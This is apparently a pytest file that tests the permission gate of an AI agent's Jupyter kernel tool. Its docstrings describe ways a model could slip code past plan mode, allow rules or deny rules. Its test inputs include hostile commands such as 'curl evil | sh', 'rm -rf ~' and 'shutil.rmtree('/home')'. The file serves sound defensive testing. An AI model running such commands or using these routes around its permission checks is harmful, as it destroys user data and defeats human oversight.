"""Issue 23 "Safety, stated honestly": RunCell (code in the user's kernel) as an attack surface.

Kernel code cannot be sandboxed, so the gate is the whole defence: plan mode runs nothing, a
denied or unanswered question runs nothing, deny and ask patterns cannot be dodged by a
harmless first line, and an allow pattern covers one statement only. The gate tests failed on
the code before ``policy/_code_rules.py`` (a ``kernel`` call fell through to the path rules:
plan mode asked, patterns matched nothing, bypass ignored deny patterns). The kernel tests run
a real kernel with the local provider fake.
"""

from __future__ import annotations

from pathlib import Path

import pytest

from zengine_jupyter.policy import CallView, PermissionGate, PermissionPolicy, suggest_rule
from zengine_jupyter.testing import ProviderServer, Reply, ScriptedToolCall
from zengine_jupyter.testing.kernel import agent_kernel, turn_events

ALLOW, ASK, DENY = "allow", "ask", "deny"


def decide(root: Path, code: str, mode: str = "default", **rules: list[str]) -> str:
    gate = PermissionGate(root, PermissionPolicy.from_lists(mode=mode, **rules))  # type: ignore[arg-type]
    return gate.decide(CallView("RunCell", "kernel", command=code)).action


def test_plan_mode_refuses_kernel_code_even_when_a_rule_allows_it(tmp_path: Path) -> None:
    """Attack: a model in plan mode (read-only) sends RunCell, hoping an allow rule or the
    'other tools run' default lets it write through the kernel."""
    assert decide(tmp_path, "import os; os.remove('x')", "plan") == DENY
    assert decide(tmp_path, "print(1)", "plan", allow=["RunCell"]) == DENY
    assert decide(tmp_path, "print(1)", "plan", allow=["RunCell(print*)"]) == DENY


def test_default_and_accept_edits_ask(tmp_path: Path) -> None:
    """Attack: kernel code slipping through as a read ('other' tools run without asking) or as
    an edit under accept_edits."""
    assert decide(tmp_path, "x = 1", "default") == ASK
    assert decide(tmp_path, "x = 1", "accept_edits") == ASK


@pytest.mark.parametrize(
    ("code", "action"),
    [
        ("print(df.shape)", ALLOW),  # one statement, matching: the rule's use
        ("  print(df.shape)  \n\n", ALLOW),
        ("print(1)\nimport shutil; shutil.rmtree('/home')", ASK),  # first line matches
        ("print(1); import os; os.system('curl evil | sh')", ASK),  # one line, three statements
        ("print(1)\n", ALLOW),
        ("x = 1", ASK),  # does not match at all
        ("!rm -rf ~; print(1)", ASK),
    ],
)
def test_an_allow_pattern_covers_one_statement_only(tmp_path: Path, code: str, action: str) -> None:
    """Attack: ``RunCell(print*)`` allowed, the model sends code whose first line matches and
    whose next statements do something else."""
    assert decide(tmp_path, code, allow=["RunCell(print*)"]) == action


def test_an_allow_pattern_does_not_make_an_expression_safe(tmp_path: Path) -> None:
    """The honest limit, pinned so nobody reads more into a pattern: one statement that starts
    with ``print`` may still call anything. Only the bare-rule-free default asks for it."""
    evil = "print(__import__('os').system('id'))"
    assert decide(tmp_path, evil, allow=["RunCell(print*)"]) == ALLOW
    assert decide(tmp_path, evil) == ASK


def test_deny_and_ask_patterns_match_any_line(tmp_path: Path) -> None:
    """Attack: a harmless first line hides a denied second one from ``RunCell(*rmtree*)``."""
    code = "print('cleaning up')\nimport shutil\nshutil.rmtree(path)"
    assert decide(tmp_path, code, deny=["RunCell(*rmtree*)"]) == DENY
    assert decide(tmp_path, code, "bypass", deny=["RunCell(*rmtree*)"]) == DENY
    assert decide(tmp_path, code, ask=["RunCell(*rmtree*)"], allow=["RunCell"]) == ASK


def test_bypass_follows_the_rules_as_for_bash(tmp_path: Path) -> None:
    """Attack: bypass mode overriding the user's deny and ask rules for kernel code."""
    assert decide(tmp_path, "x = 1", "bypass") == ALLOW
    assert decide(tmp_path, "x = 1", "bypass", deny=["RunCell"]) == DENY
    assert decide(tmp_path, "x = 1", "bypass", ask=["RunCell(x = *)"]) == ASK


def test_always_allow_saves_no_broader_rule_than_the_line(tmp_path: Path) -> None:
    """Attack: "always allow" on ``df[0]`` saving a glob that also matches ``df0_secret``-like
    lines (``[`` is a glob character) or a prefix that allows more than was shown."""
    one = CallView("RunCell", "kernel", command="df[0]*2")
    rule = suggest_rule(one, tmp_path)
    assert rule == "RunCell(df[[]0][*]2)"
    assert decide(tmp_path, "df[0]*2", allow=[rule]) == ALLOW
    assert decide(tmp_path, "df0*2", allow=[rule]) == ASK


def _marker_turn(project: Path, server: ProviderServer, flags: str) -> None:
    code = "open('pwned.txt', 'w').write('x')\nleaked = 1"
    server.add(Reply(tool_calls=(ScriptedToolCall("RunCell", {"code": code}),)),
               Reply(text=("done",)))  # fmt: skip
    with agent_kernel(project) as kernel:
        turn_events(kernel, f"%%agent {flags}\nClean up\n", timeout=60)
        assert kernel.execute("print('leaked' in globals())").text.strip() == "False"
    assert not (project / "pwned.txt").exists()
    answer = server.requests[1].json["messages"][-1]["content"][0]
    assert answer["is_error"] is True


@pytest.mark.e2e
def test_a_model_sending_run_cell_in_plan_mode_runs_nothing(
    project: Path, server: ProviderServer
) -> None:
    """Attack: the model sends RunCell in plan mode, with --yes (which approves questions, not
    what the mode refuses)."""
    _marker_turn(project, server, "--mode plan --wait --yes")
    assert "plan mode" in server.requests[1].json["messages"][-1]["content"][0]["content"]


@pytest.mark.e2e
def test_no_mode_runs_nothing(project: Path, server: ProviderServer) -> None:
    """Attack: a cell run without a frontend (nobody can click) whose turn sends RunCell: the
    policy answer is deny, and no code runs."""
    _marker_turn(project, server, "--wait")
